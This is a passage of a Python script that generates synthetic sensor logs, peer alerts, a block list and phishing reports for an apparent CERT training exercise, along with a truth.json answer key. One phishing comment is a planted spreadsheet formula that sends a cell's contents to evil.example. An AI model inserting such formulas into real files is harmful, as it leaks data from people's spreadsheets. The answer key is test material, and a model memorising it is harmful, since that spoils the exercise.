        def alert(second, sid, name, category, severity, source, sport, target, tport, proto="TCP", **more):
            nonlocal alerts
            alerts += 1
            record(second, "alert", source, sport, target, tport, proto,
                   alert=dict(action="allowed", gid=1, signature_id=sid, rev=2, signature=name, category=category, severity=severity,
                              **dict(metadata=dict(malware_family=["duskmoth"])) if "Duskmoth" in name else {}), **more)

        for ip in clients:
            for second in dice.seconds(dice.between(2, 5), 3 * 3600, 14 * 3600):
                port = dice.between(49152, 65000)
                c2 += 1
                if day <= 20:
                    record(second, "dns", ip, port, "198.19.0.53", 53, "UDP",
                           dns=dict(type="answer", id=dice.below(65536), rrname=C2_NAME, rrtype="A", rcode="NOERROR",
                                    answers=[dict(rrname=C2_NAME, rrtype="A", ttl=300, rdata=C2)]))
                    alert(second + 1, 9000101, "XS-CIRT MALWARE Duskmoth loader check-in",
                          "Malware Command and Control Activity Detected", 1, ip, port, C2, 443, app_proto="tls",
                          tls=dict(sni=C2_NAME, version="TLS 1.2", subject="CN=lamp", issuerdn="CN=lamp"),
                          flow=dict(pkts_toserver=dice.between(6, 12), pkts_toclient=dice.between(5, 11),
                                    bytes_toserver=dice.between(900, 3000), bytes_toclient=dice.between(1500, 9000)))
                else:  # The server is gone; what is left still asks for its name.
                    alert(second, 9000102, "XS-CIRT MALWARE Duskmoth command server name asked for",
                          "Malware Command and Control Activity Detected", 2, ip, port, "198.19.0.53", 53, "UDP", app_proto="dns",
                          dns=dict(query=[dict(type="query", id=dice.below(65536), rrname=C2_NAME, rrtype="A")]))
        crowd = botnet.days[day - 1]
        for ip in dice.shuffle(crowd)[:2 + len(crowd) // 20]:  # The routers look for more of their kind.
            alert(dice.below(86400), 9000103, "XS-CIRT MALWARE Duskmoth looking for open Telnet", "A Network Trojan was detected", 2,
                  ip, dice.between(1024, 65000), f"198.19.{dice.between(1, 9)}.{dice.between(10, 60)}", 23)
        for second in dice.seconds(dice.between(3, 6)):
            alert(second, 9000310, "XS-CIRT SCAN Many ports of one host", "Attempted Information Leak", 3,
                  f"203.0.113.{dice.between(129, 250)}", dice.between(40000, 60000), f"198.19.{dice.between(1, 9)}.{dice.between(10, 60)}",
                  dice.pick([22, 23, 445, 3389]))
        if EXPOSED_FROM <= day <= EXPOSED_TO:
            for second in dice.seconds(dice.between(3, 7)):
                alert(second, 9000320, "XS-CIRT ATTACK Remote desktop guessing", "Attempted Administrator Privilege Gain", 2,
                      f"198.51.100.{dice.between(130, 180)}", dice.between(40000, 60000), dice.pick(["198.19.7.40", "198.19.7.41"]), 3389)
        if day in (WEBSHELL_DAY, WEBSHELL_DAY + 1):
            for second in dice.seconds(3, 0, 14400):
                alert(second, 9000401, "XS-CIRT WEB Webshell request to mail server", "Web Application Attack", 1,
                      "203.0.113.77", dice.between(40000, 60000), "198.19.7.25", 443, app_proto="http",
                      http=dict(hostname="mail.social.gov.xs.example", url="/aspnet_client/lamp.aspx", http_method="POST", status=200,
                                http_user_agent="curl/8.5.0", protocol="HTTP/1.1", length=412))
        names = ["www.post.xs.example", "portal.gov.xs.example", "mail.moh.gov.xs.example", "updates.example", "news.example"]
        for second in dice.seconds(30, 10800, 50400):
            ip, port, name = f"198.19.{dice.between(1, 9)}.{dice.between(10, 90)}", dice.between(49152, 65000), dice.pick(names)
            far, kind = f"192.0.2.{dice.between(140, 200)}", dice.pick(["dns", "http", "tls", "flow", "flow"])
            if kind == "dns":
                record(second, kind, ip, port, "198.19.0.53", 53, "UDP",
                       dns=dict(type="query", id=dice.below(65536), rrname=name, rrtype="A"))
            elif kind == "http":
                record(second, kind, ip, port, far, 80, "TCP",
                       http=dict(hostname=name, url="/", http_method="GET", status=200, protocol="HTTP/1.1", length=dice.below(20000)))
            elif kind == "tls":
                record(second, kind, ip, port, far, 443, "TCP", tls=dict(sni=name, version="TLS 1.3"))
            else:
                begin = f"{day_of(day)}T{clock(second - 60)}.000000+0000"
                record(second, kind, ip, port, far, 443, "TCP", app_proto="tls",
                       flow=dict(pkts_toserver=dice.between(5, 90), pkts_toclient=dice.between(5, 90), bytes_toserver=dice.between(800, 9000),
                                 bytes_toclient=dice.between(800, 90000), start=begin, state="closed", reason="timeout", alerted=False))
        record(43200, "anomaly", "198.19.6.14", 51515, "192.0.2.150", 443, "TCP",
               anomaly=dict(type="stream", event="stream.pkt_broken_ack", app_proto="tls"))
        if day % 3 == 0:
            record(36000, "fileinfo", "192.0.2.151", 80, "198.19.2.31", 50100, "TCP", app_proto="http",
                   fileinfo=dict(filename="/forms/leave.pdf", magic="PDF document", state="CLOSED", stored=False, size=48211, tx_id=0,
                                 sha256=dice.hex(32)))
        lines.sort(key=lambda line: line[0])
        text = "".join(json.dumps(body, separators=(",", ":")) + "\n" for _, body in lines)
        MONTH.add(day, f"gov-sensor-eve-{day_of(day)}.json", "gov-sensor-eve", text.encode(), "gz" if day <= 28 else "",
                  rows=len(lines), events=alerts, context=len(lines) - alerts)
        story.append(c2)
    return story


ZEEK = {
    "conn": [("ts", "time"), ("uid", "string"), ("id.orig_h", "addr"), ("id.orig_p", "port"), ("id.resp_h", "addr"), ("id.resp_p", "port"),
             ("proto", "enum"), ("service", "string"), ("duration", "interval"), ("orig_bytes", "count"), ("resp_bytes", "count"),
             ("conn_state", "string"), ("local_orig", "bool"), ("local_resp", "bool"), ("missed_bytes", "count"), ("history", "string"),
             ("orig_pkts", "count"), ("orig_ip_bytes", "count"), ("resp_pkts", "count"), ("resp_ip_bytes", "count"),
             ("tunnel_parents", "set[string]")],
    "dns": [("ts", "time"), ("uid", "string"), ("id.orig_h", "addr"), ("id.orig_p", "port"), ("id.resp_h", "addr"), ("id.resp_p", "port"),
            ("proto", "enum"), ("trans_id", "count"), ("rtt", "interval"), ("query", "string"), ("qclass", "count"), ("qclass_name", "string"),
            ("qtype", "count"), ("qtype_name", "string"), ("rcode", "count"), ("rcode_name", "string"), ("AA", "bool"), ("TC", "bool"),
            ("RD", "bool"), ("RA", "bool"), ("Z", "count"), ("answers", "vector[string]"), ("TTLs", "vector[interval]"), ("rejected", "bool")],
    "notice": [("ts", "time"), ("uid", "string"), ("id.orig_h", "addr"), ("id.orig_p", "port"), ("id.resp_h", "addr"), ("id.resp_p", "port"),
               ("fuid", "string"), ("file_mime_type", "string"), ("file_desc", "string"), ("proto", "enum"), ("note", "enum"),
               ("msg", "string"), ("sub", "string"), ("src", "addr"), ("dst", "addr"), ("p", "port"), ("n", "count"), ("peer_descr", "string"),
               ("actions", "set[enum]"), ("email_dest", "set[string]"), ("suppress_for", "interval"),
               ("remote_location.country_code", "string"), ("remote_location.region", "string"), ("remote_location.city", "string"),
               ("remote_location.latitude", "double"), ("remote_location.longitude", "double")],
}


def zeek():
    """The sensor of the Ministry of Health. It falls silent after day 28."""
    for day in range(1, 29):
        dice, rows = Dice(f"zeek/{day}"), {"conn": [], "dns": [], "notice": []}
        midnight = int(datetime.datetime.combine(day_of(day), datetime.time(), datetime.timezone.utc).timestamp())

        def record(log, second, **values):
            values["ts"] = f"{midnight + second}.{dice.below(10**6):06d}"
            rows[log].append((values["ts"], [str(values.get(name.replace(".", "_"), "-")) for name, _ in ZEEK[log]]))

        infected = "198.19.4.17" in GOV_CLIENTS[:C2_CLIENTS[day - 1]] and day <= 20
        plan = [(second, f"198.19.4.{dice.between(10, 60)}", f"192.0.2.{dice.between(140, 200)}", 443, "ssl") for second in dice.seconds(22)]
        plan += [(second, "198.19.4.17", C2, 443, "ssl") for second in dice.seconds(3 if infected else 0)]
        for second, ip, far, port, service in plan:
            uid, sport, sent, got = "C" + dice.letters(16), dice.between(49152, 65000), dice.between(500, 9000), dice.between(900, 90000)
            record("conn", second, uid=uid, id_orig_h=ip, id_orig_p=sport, id_resp_h=far, id_resp_p=port, proto="tcp", service=service,
                   duration=f"{dice.below(90)}.{dice.below(10**6):06d}", orig_bytes=sent, resp_bytes=got, conn_state="SF", local_orig="T",
                   local_resp="F", missed_bytes=0, history="ShADadFf", orig_pkts=sent // 400 + 4, orig_ip_bytes=sent + 240,
                   resp_pkts=got // 1200 + 4, resp_ip_bytes=got + 240)
            name = C2_NAME if far == C2 else dice.pick(["updates.example", "portal.gov.xs.example", "journal.example"])
            record("dns", max(0, second - 1), uid="C" + dice.letters(16), id_orig_h=ip, id_orig_p=dice.between(49152, 65000),
                   id_resp_h="198.19.0.53", id_resp_p=53, proto="udp", trans_id=dice.below(65536), rtt=f"0.{dice.between(1000, 40000):06d}",
                   query=name, qclass=1, qclass_name="C_INTERNET", qtype=1, qtype_name="A", rcode=0, rcode_name="NOERROR", AA="F", TC="F",
                   RD="T", RA="T", Z=0, answers=far, TTLs="300.000000", rejected="F")
        notices = [("SSH::Password_Guessing", f"198.51.100.{dice.between(20, 90)}", "appears to be guessing SSH passwords (seen in 30 connections)",
                    "22") for _ in range(dice.below(3))]
        notices += [("Scan::Port_Scan", UNIVERSITY_HOST, "scanned at least 15 unique ports of host 198.19.4.20 in 0m9s", "-")] * (day in (11, 14))
        notices += [("Intel::Notice", "198.19.4.17", f"Intel hit on {C2_NAME} at DNS::IN_REQUEST", "53")] * infected
        for (note, ip, text, port), second in zip(notices, dice.seconds(len(notices))):
            own = note == "Intel::Notice"
            record("notice", second, note=note, msg=f"{ip} {text}" if not own else text, src=ip, dst=C2 if own else "198.19.4.20",
                   p=port, peer_descr="moh-1", actions="Notice::ACTION_LOG", email_dest="(empty)", suppress_for="3600.000000",
                   sub=f"Sampled servers: 198.19.4.20" if note.startswith("SSH") else "-")
        for log, body in rows.items():
            if not body:
                continue
            body.sort(key=lambda row: row[0])
            date = str(day_of(day))
            head = ["#separator \\x09", "#set_separator\t,", "#empty_field\t(empty)", "#unset_field\t-", f"#path\t{log}",
                    f"#open\t{date}-00-00-00", "#fields\t" + "\t".join(n for n, _ in ZEEK[log]), "#types\t" + "\t".join(t for _, t in ZEEK[log])]
            text = "\n".join(head + ["\t".join(row) for _, row in body] + [f"#close\t{day_of(day + 1)}-00-00-00"]) + "\n"
            count = len(body)
            truth = dict(events=count) if log == "notice" else dict(context=count)
            MONTH.add(day, f"moh-sensor-zeek-{log}-{date}.log", "moh-sensor-zeek", text.encode(), "gz" if day <= 26 and log != "notice" else "",
                      rows=count, **truth)


# --------------------------------------------------------------------------------------------------- peers and people

def idea(botnet):
    """What Reef CERT, the team of a neighbour, saw of us, as IDEA; later messages point at earlier ones."""
    last, first_c2 = {}, None
    for day in range(1, DAYS + 1):
        dice, messages = Dice(f"idea/{day}"), []

        def identity():
            text = dice.hex(16)
            return f"{text[:8]}-{text[8:12]}-4{text[13:16]}-a{text[17:20]}-{text[20:]}"

        def message(second, category, ip, text, target=None, port=22, **more):
            stamp = f"{day_of(day)}T{clock(second)}Z"
            body = dict(Format="IDEA0", ID=identity(), CreateTime=f"{day_of(day)}T{clock(min(second + 90, 86399))}Z", DetectTime=stamp,
                        Category=[category], Description=text, ConnCount=dice.between(3, 400), Source=[dict(IP4=[ip], Proto=["tcp"])])
            if target:
                body["Target"] = [dict(IP4=[target], Port=[port], Proto=["tcp", "ssh"] if port == 22 else ["tcp"])]
            body.update(more)
            body["Node"] = [dict(Name="example.reef.sensor1", Type=["Honeypot", "Connection"], SW=["Reef sensor"])]
            messages.append((stamp, body))
            return body["ID"]

        for ip in dice.shuffle(botnet.days[day - 1])[:dice.between(1, 3)]:
            links = dict(RelID=[last[ip]]) if ip in last else {}
            last[ip] = message(dice.below(86000), "Attempt.Login", ip, "Telnet logins with a password list",
                               f"192.0.2.{dice.between(70, 90)}", 23, **links)
        if 9 <= day <= 17 or day in (26, 27):
            parts = [message(second, "Attempt.Login", UNIVERSITY_HOST, "SSH logins with a password list", f"192.0.2.{70 + i}")
                     for i, second in enumerate(dice.seconds(2, 1000, 60000))]
            links = dict(RelID=[last["university"]]) if "university" in last else {}
            last["university"] = message(80000, "Attempt.Login", UNIVERSITY_HOST, "SSH logins, all sensors of the day together",
                                         AggrID=parts, **links)
        if 12 <= day <= 20:
            links = dict(PredID=[last["c2"]], CorrelID=[first_c2]) if "c2" in last else {}
            last["c2"] = message(dice.between(30000, 40000), "Intrusion.Botnet", C2, f"Command server of Duskmoth, name {C2_NAME}",
                                 Confidence=0.8 if day < 15 else 0.95, **links)
            messages[-1][1]["Source"][0].update(Port=[443], Type=["CC"], Hostname=[C2_NAME])
            first_c2 = first_c2 or last["c2"]
        if dice.chance(40):
            message(dice.below(86000), "Recon.Scanning", "198.18.202.15", "Horizontal scan of port 445", f"192.0.2.{dice.between(70, 90)}", 445)
        messages.sort(key=lambda row: row[0])
        text = "".join(json.dumps(body, separators=(",", ":")) + "\n" for _, body in messages)
        MONTH.add(day, f"reef-idea-{day_of(day)}.json", "reef-idea", text.encode(), rows=len(messages), events=len(messages))


def block_list(botnet):
    """Reef CERT's block list: the whole list every day; what changes is the news."""
    dice = Dice("block list")
    far = dice.shuffle([f"{net}.{host}" for net in ("192.0.2", "198.51.100", "203.0.113") for host in range(66, 250)])
    present, waiting = far[:70], far[70:]
    ever, before, story = set(), set(), []
    for day in range(1, DAYS + 1):
        leaving = dice.shuffle(present)[:dice.between(2, 5)] if day > 1 else []
        present = [ip for ip in present if ip not in leaving]
        present += [waiting.pop(0) for _ in range(dice.between(2, 5) if day > 1 else 0)]
        if day == 19:
            present += [ip for ip in far[:70] if ip not in present][:3]
        ours = botnet.days[max(0, day - 2)][:20]
        ours += [C2] if 13 <= day <= 23 else []
        ours += [UNIVERSITY_HOST] if 10 <= day <= 19 or 27 <= day <= 30 else []
        ours += ["203.0.113.192/28", "198.51.100.224/29"] + (["192.0.2.248/30"] if day >= 15 else [])
        now = sorted(set(present + ours), key=lambda text: (int(ipaddress.ip_network(text).network_address), text))
        head = ["# Reef CERT block list", f"# made {day_of(day)} 04:00 UTC, {len(now)} entries", "# one address or network a line", ""]
        lines = [ip + ("  # command server" if ip == C2 else "") for ip in now]
        added, again = set(now) - before - ever, (set(now) - before) & ever
        counts = dict(entries=len(now), new=len(added), relisted=len(again), unchanged=len(set(now) & before), delisted=len(before - set(now)))
        before = set(now)
        ever |= before
        story.append(counts)
        MONTH.add(day, f"reef-blocklist-{day_of(day)}.txt", "reef-blocklist", ("\n".join(head + lines) + "\n").encode(),
                  rows=len(now), events=len(added) + len(again), duplicates=counts["unchanged"], list=counts)
    return story


PHISHING_HEADER = ["number", "reported_at", "url", "host_ip", "imitates", "channel", "status", "comment"]


def phishing():
    """Reports from the public's web form: semicolons, CRLF, local time. Day 16 is Latin-1, day 22 has a byte order mark."""
    brands = [("Bank of Port Noor", "bankofportnoor"), ("Siraj Post", "sirajpost"), ("Siraj Savings Bank", "savings-siraj"),
              ("Sirajtel", "my-sirajtel"), ("Ministry of Finance", "tax-refund")]
    comments = ["رسالة نصية عن طرد متأخر", "الموقع يطلب رقم البطاقة", "SMS reçu ce matin", "Le site demande le code de la carte",
                "Link came by chat", "Looks like the real login page", ""]
    number = 4100
    for day in range(1, DAYS + 1):
        dice, rows, rejects = Dice(f"phishing/{day}"), [], []
        count = dice.between(3, 7) + (8 if 20 <= day <= 23 else 0)
        for second in dice.seconds(count, 4 * 3600, 19 * 3600):
            brand, word = brands[0] if 20 <= day <= 23 and dice.chance(75) else dice.pick(brands)
            number += 1
            host = f"{word}-{dice.pick(['login', 'secure', 'parcel', 'card', 'verify'])}{dice.below(90)}.example"
            ip = dice.pick(["198.18.203.88", "203.0.113.%d" % dice.between(70, 120), "203.0.113.%d" % dice.between(200, 240), ""])
            comment = dice.pick(comments if day != 16 else comments[2:])
            if day == 16 and not rows:
                comment = "Site bloqué chez nous, déjà signalé à l'hébergeur"
            if day == 12 and not rows:
                comment = '=HYPERLINK("http://evil.example/?"&A1;"details")'
            if day == 21 and not rows:
                comment = 'First line\nsecond line, with "quotes"'
            local = clock(second + 4 * 3600)
            rows.append([str(number), f"{day_of(day)} {local}", f"https://{host}/{dice.letters(5)}", ip, brand,
                         dice.pick(["web form", "mail", "telephone"]), dice.pick(["new", "new", "confirmed"]), comment])
        if day == 17:
            rows[1][1] = "this morning"
            rejects.append(dict(line=3, column="reported_at", code="bad-time"))
        text = io.StringIO()
        writer = csv.writer(text, delimiter=";", lineterminator="\r\n")
        writer.writerow(PHISHING_HEADER)
        writer.writerows(rows)
        code = {16: "latin-1", 22: "utf-8-sig"}.get(day, "utf-8")
        truth = dict(rows=len(rows), events=len(rows) - len(rejects), rejects=len(rejects))
        if rejects:
            truth["reject_lines"] = rejects
        MONTH.add(day, f"phishing-reports-{day_of(day)}.csv", "phishing-reports", text.getvalue().encode(code), **truth)


# ------------------------------------------------------------------------------------------------------------ tables

def tables():
    routes = "".join(f"{net}\t{asn}\n" for net, asn, _, _ in PREFIXES)
    names = "".join(f"{asn}\t{name}\n" for asn, name, _ in AS_NAMES)
    given = "19980504"
    records = [("asn", str(asn), 1, cc, given) for asn, _, cc in AS_NAMES]
    for net, _, cc, date in PREFIXES:
        net = ipaddress.ip_network(net)
        if date:  # What has no date is announced out of a larger block.
            kind = "ipv4" if net.version == 4 else "ipv6"
            records.append((kind, str(net.network_address), net.num_addresses if kind == "ipv4" else net.prefixlen, cc, date))
    lines = [f"2|docrir|20261120|{len(records)}|19960912|20261120|+0000"]
    lines += [f"docrir|*|{kind}|*|{sum(r[0] == kind for r in records)}|summary" for kind in ("asn", "ipv4", "ipv6")]
    for kind, start, size, cc, date in records:
        handle = hashlib.sha256(f"{cc}/{start}".encode()).hexdigest()[:8]
        lines.append(f"docrir|{cc}|{kind}|{start}|{size}|{date}|allocated|{handle}")
    return {"tables/prefix-to-as.tsv": routes.encode(), "tables/as-names.tsv": names.encode(),
            "tables/delegated-xs.txt": ("\n".join(lines) + "\n").encode()}


# ------------------------------------------------------------------------------------------- reading back and writing

def unpack(path, data):
    import gzip
    import zipfile
    if path.endswith(".gz"):
        return gzip.decompress(data)
    if path.endswith(".zip"):
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            return archive.read(archive.namelist()[0])
    return data


def read_back(entry, data, seen):
    """Counts a file by what is in it, without knowing how it was made: (counts, [(what, source address)] of its events)."""
    counts, events = dict(rows=0, events=0, context=0, duplicates=0, rejects=0), []
    feed, text = entry["feed"], data.decode("latin-1" if b"bloqu\xe9" in data else "utf-8-sig")
    known = seen.setdefault(feed, set())

    def judge(raw, valid, what, ip):
        counts["rows"] += 1
        if not valid:
            counts["rejects"] += 1
        elif raw in known:
            counts["duplicates"] += 1
        else:
            known.add(raw)
            counts["events"] += 1
            events.append((what, ip))

    def is_time(value, form):
        try:
            datetime.datetime.strptime(value, form)
            return True
        except ValueError:
            return False

    def is_ip(value):
        try:
            return bool(ipaddress.ip_address(value))
        except ValueError:
            return False

    if feed.startswith("shadowserver-"):
        rows = list(csv.reader(io.StringIO(text)))
        header, lines = rows[0], text.split("\n")[1:-1]
        ip = next(i for i, name in enumerate(header) if name in ("src_ip", "ip"))
        what = header.index("infection") if "infection" in header else header.index("tag")
        for row, raw in zip(rows[1:], lines, strict=True):
            valid = len(row) == len(header) and is_time(row[0], "%Y-%m-%d %H:%M:%S") and is_ip(row[ip])
            judge(raw, valid, row[what] if valid else "", row[ip] if valid else "")
    elif feed == "gov-sensor-eve":
        for raw in text.splitlines():
            body = json.loads(raw)
            if body["event_type"] == "alert":
                judge(raw, is_ip(body["src_ip"]), body["alert"]["signature"], body["src_ip"])
            else:
                counts["rows"] += 1
                counts["context"] += 1
    elif feed == "moh-sensor-zeek":
        fields = next(line for line in text.splitlines() if line.startswith("#fields")).split("\t")[1:]
        for raw in text.splitlines():
            if raw.startswith("#"):
                continue
            row = dict(zip(fields, raw.split("\t"), strict=True))
            if "note" in row:
                judge(raw, is_ip(row["src"]), row["note"], row["src"])
            else:
                counts["rows"] += 1
                counts["context"] += 1
    elif feed == "reef-idea":
        for raw in text.splitlines():
            body = json.loads(raw)
            ip = body["Source"][0]["IP4"][0]
            judge(raw, is_ip(ip) and is_time(body["DetectTime"], "%Y-%m-%dT%H:%M:%SZ"), body["Category"][0], ip)
    elif feed == "phishing-reports":
        rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
        for row in rows[1:]:
            judge(tuple(row), len(row) == len(rows[0]) and is_time(row[1], "%Y-%m-%d %H:%M:%S"), "phishing", row[3])
    elif feed == "reef-blocklist":
        now = [line for line in text.splitlines() if line and not line.startswith("#")]
        before = seen.setdefault("reef-blocklist yesterday", set())
        for raw in now:
            counts["rows"] += 1
            fresh = raw not in before
            counts["events" if fresh else "duplicates"] += 1
            if fresh:
                events.append(("block list", raw.split(" ")[0].split("/")[0]))
        seen["reef-blocklist yesterday"] = set(now)
    return counts, events


def strays(text):
    """Every address and name in a text that could belong to somebody real."""
    bad = []
    allowed = COUNTRY + WORLD
    found = re.findall(r"(?<![\w.-])\d{1,3}(?:\.\d{1,3}){3}(?![\w.-])", text)
    found += re.findall(r"(?<![\w:.])(?:[0-9a-fA-F]{0,4}:){2,7}[0-9a-fA-F]{0,4}(?![\w:])", text)
    for word in found:
        try:
            ip = ipaddress.ip_address(word)
        except ValueError:
            continue
        if not any(ip.version == net.version and ip in net for net in allowed):
            bad.append(word)
    for word in re.findall(r"(?<![\w.@/-])(?:[a-z0-9-]+\.)+[a-z]{2,}(?![\w.-])", text) + re.findall(r"(?:://|@)([^/\s\",;?]+)", text):
        known = (".json", ".csv", ".gz", ".zip", ".txt", ".tsv", ".yaml", ".md", ".py", ".log", ".pdf", ".aspx", ".js", ".xs")
        technical = re.match(r"(id\.(orig|resp)_?|stream\.|remote_location\.|spams$|android\.|example\.reef)", word)
        if not word.endswith(".example") and not word.endswith(known) and not technical:
            bad.append(word)
    return bad


def truth_text(truth):
    def one(value):
        return json.dumps(value, ensure_ascii=False, separators=(", ", ": "))
    parts = []
    for key, value in truth.items():
        if key == "files":
            parts.append('"files": [\n' + ",\n".join("  " + one(entry) for entry in value) + "\n]")
        elif isinstance(value, dict):
            parts.append(f'"{key}": {{\n' + ",\n".join(f"  {json.dumps(k, ensure_ascii=False)}: {one(v)}" for k, v in value.items()) + "\n}")
        else:
            parts.append(f'"{key}": {one(value)}')
    return "{\n" + ",\n".join(parts) + "\n}\n"


def generate():
    botnet = Botnet()
    sinkhole(botnet)
    sinkhole6(botnet)
    for make in (brute_force, telnet, snmp, rdp, ssl, exchange, ldap, mysql, website):
        make()
    c2_alerts = eve(botnet)
    zeek()
    idea(botnet)
    lists = block_list(botnet)
    phishing()
    MONTH.truth.sort(key=lambda entry: (entry["file"].split("/")[1], "repeats_file" not in entry, entry["file"]))
    keys = ("rows", "events", "context", "duplicates", "rejects")
    seen, owned, asset_days, sunk, sensed = {}, {}, {}, set(), set()
    for entry in MONTH.truth:
        counts, events = read_back(entry, unpack(entry["file"], MONTH.files[entry["file"]]), seen)
        assert counts == {key: entry[key] for key in keys}, (entry["file"], counts, entry)
        sunk |= {ip for what, ip in events if what == "duskmoth"}
        sensed |= {ip for what, ip in events if "MALWARE Duskmoth" in what}
        for what, ip in events:
            if entry["feed"] != "reef-blocklist" and ip and (ipaddress.ip_address(ip) in COUNTRY[0 if "." in ip else 1]):
                name = LAND.owner(ip) or "(nobody)"
                owned[name] = owned.get(name, 0) + 1
            if ip and LAND.owner(ip) == MINISTRY and entry["feed"].startswith("shadowserver-") and entry["feed"] != "shadowserver-scan_ssl":
                day = entry["file"].split("/")[1]
                asset_days.setdefault(day, set()).add((ip, entry["feed"]))
    total = {key: sum(entry[key] for entry in MONTH.truth) for key in keys}
    only = [entry for entry in MONTH.truth if entry["feed"] != "reef-blocklist"]
    owned_by = [sum(LAND.owner(ip) == "Mangrove Broadband" for ip in day) for day in botnet.days]
    truth = dict(
        about="Rows = events + context + duplicates + rejects. An event has a valid time and address and is not byte for byte "
              "a row its feed gave before; context is a sensor's record that is no alert. For the block list an event is an entry "
              "that was not there the day before, a duplicate one that was.",
        first=str(FIRST), last=str(day_of(DAYS)), seed=SEED,
        totals=dict(files=len(MONTH.truth), **total),
        totals_without_block_list={key: sum(entry[key] for entry in only) for key in keys},
        rows_per_day={str(day_of(d)): sum(e["rows"] for e in MONTH.truth if e["file"].startswith(f"feeds/{day_of(d)}/")) for d in range(1, 31)},
        story=dict(
            infected_isp="Mangrove Broadband", infection="duskmoth", infected_hosts_in_block=DUSKMOTH,
            infected_hosts_owned=owned_by, infected_peak_day=str(day_of(DUSKMOTH.index(max(DUSKMOTH)) + 1)),
            infected_hosts_ever=len({ip for day in botnet.days for ip in day}), infected_again=sorted(botnet.returned),
            infected_nested=sorted({LAND.owner(ip) for day in botnet.days for ip in day} - {"Mangrove Broadband"}),
            infected_seen_by_two=sorted(sunk & sensed), exposed_ministry=MINISTRY, exposed_services=[len(asset_days.get(str(day_of(d)), ())) for d in range(1, 31)],
            exposed_from=str(day_of(EXPOSED_FROM)), exposed_to=str(day_of(EXPOSED_TO)), exposed_again=["198.19.7.10", str(day_of(EXPOSED_AGAIN))],
            webshell=["198.19.7.25", str(day_of(WEBSHELL_DAY))],
            c2_server=C2, c2_owner="Palmshade Hosting", c2_name=C2_NAME, c2_clients=C2_CLIENTS, c2_alerts=c2_alerts,
            c2_taken_down=str(day_of(21)), c2_seen_by_peer=[str(day_of(12)), str(day_of(20))],
            brute_force_host=UNIVERSITY_HOST, brute_force_days=[*range(9, 18), 26, 27],
            drift_file=f"feeds/{day_of(18)}/{day_of(18)}-scan_telnet-siraj_islands-geo.csv",
            malformed_file=f"feeds/{day_of(9)}/{day_of(9)}-scan_telnet-siraj_islands-geo.csv",
            missing=["shadowserver-event4_honeypot_brute_force", str(day_of(20))], silent_since=["moh-sensor-zeek", str(day_of(28))],
            twice=[e["file"] for e in MONTH.truth if "repeats_file" in e],
            late_rows=[f"feeds/{day_of(21)}/{day_of(21)}-event4_sinkhole_http-siraj_islands-geo.csv", 5],
            formula_injection=f"feeds/{day_of(12)}/phishing-reports-{day_of(12)}.csv",
            block_list_new=[c["new"] for c in lists], block_list_relisted=[c["relisted"] for c in lists],
            block_list_delisted=[c["delisted"] for c in lists]),
        events_by_owner_of_source=dict(sorted(owned.items(), key=lambda item: (-item[1], item[0]))),
        files=MONTH.truth)
    return dict(tables(), **MONTH.files, **{"truth.json": truth_text(truth).encode()})


def check(files):
    """Compares the folder with what would be written, and everything in it with the ranges reserved for examples."""
    bad = []
    for path, data in files.items():
        there = HERE / path
        if not there.is_file() or there.read_bytes() != data:
            bad.append(f"{path}: not as generated")
    for there in sorted(path for path in HERE.rglob("*") if path.is_file() and "__pycache__" not in path.parts):
        path = there.relative_to(HERE).as_posix()
        if path.startswith("feeds/20") and path not in files:
            bad.append(f"{path}: not generated")
        if path == "generate.py":
            continue
        data = unpack(path, there.read_bytes())
        try:
            text = data.decode()
        except UnicodeDecodeError:
            text = data.decode("latin-1")
        if path.startswith("feeds/mappings/"):
            text = re.sub(r"(?m)^  [a-z_.]+: [a-z_.-]+$", "", text)  # Names of fields look like names of hosts.
        bad += [f"{path}: {word} could be real" for word in strays(text)]
        if path.startswith("feeds/20") and "siraj_islands" in path:
            for number, row in enumerate(csv.DictReader(io.StringIO(text)), 2):
                for name in ("asn", "src_asn", "dst_asn"):
                    if row.get(name) and row[name].isdigit() and not (64496 <= int(row[name]) <= 64511 or 65536 <= int(row[name]) <= 65551):
                        bad.append(f"{path}:{number}: AS {row[name]} could be real")
    names = [org["name"] for org in LAND.organisations]
    bad += [f"constituency.csv: {name} twice" for name in set(names) if names.count(name) > 1]
    words = dict(criticality=("low", "medium", "high", "vital"), contact_role=("security", "abuse", "technical", "management"),
                 contact_language=("ar", "fr", "en"), contact_format=("csv", "json", "both"))
    for column, file in (("sector", "sectors"), ("kind", "kinds")):
        text = (HERE / f"../../content/taxonomies/{file}.yaml").read_text(encoding="utf-8")
        words[column] = re.findall(r"(?m)^- id: (\w+)$", text)
    for org in LAND.organisations:
        bad += [f"constituency.csv: {org['name']}: {column} {word}" for column, allowed in words.items()
                for word in org[column].split(";") if word not in allowed]
        contacts = {org[column].count(";") for column in org if column.startswith("contact_")}
        if len(contacts) != 1:
            bad.append(f"constituency.csv: {org['name']}: contacts of different lengths")
    networks = [str(net) for net, _ in LAND.owners]
    bad += [f"constituency.csv: {net} twice" for net in set(networks) if networks.count(net) > 1]
    for net, org in LAND.owners:
        if not any(net.version == outer.version and net.subnet_of(outer) for outer in COUNTRY):
            bad.append(f"constituency.csv: {net} of {org['name']} is outside the country")
    for org in LAND.organisations:
        bad += [f"constituency.csv: AS {a}" for a in org["as_numbers"].split(";") if a and not 64496 <= int(a) <= 64511]
    for path in (path for path in files if path.startswith("feeds/")):
        if path.split("/")[2][:4] == "2026" and "siraj_islands" in path:
            kind = re.match(r"\d{4}-\d\d-\d\d-(\w+)-", path.split("/")[2]).group(1)
            header = next(csv.reader(io.StringIO(unpack(path, files[path]).decode())))
            if header != REPORTS[kind]["fields"] and "drift" not in next(e for e in MONTH.truth if e["file"] == path):
                bad.append(f"{path}: the header is not that of the report type")
    size = sum(path.stat().st_size for path in HERE.rglob("*") if path.is_file())
    if size > 3_000_000:
        bad.append(f"the folder has {size} bytes, more than 3 MB")
    return bad, size


def main():
    files = generate()
    if "--check" in sys.argv[1:]:
        bad, size = check(files)
        print("\n".join(bad[:50]) if bad else f"{len(files)} files as generated, {size} bytes, every address and name reserved")
        return 1 if bad else 0
    for path in [*(HERE / "feeds").glob("20??-??-??"), HERE / "tables"]:
        if path.is_dir():
            shutil.rmtree(path)
    for path, data in files.items():
        there = HERE / path
        there.parent.mkdir(parents=True, exist_ok=True)
        there.write_bytes(data)
    print(f"{len(files)} files, {sum(map(len, files.values()))} bytes")
    return 0


if __name__ == "__main__":
    sys.exit(main())
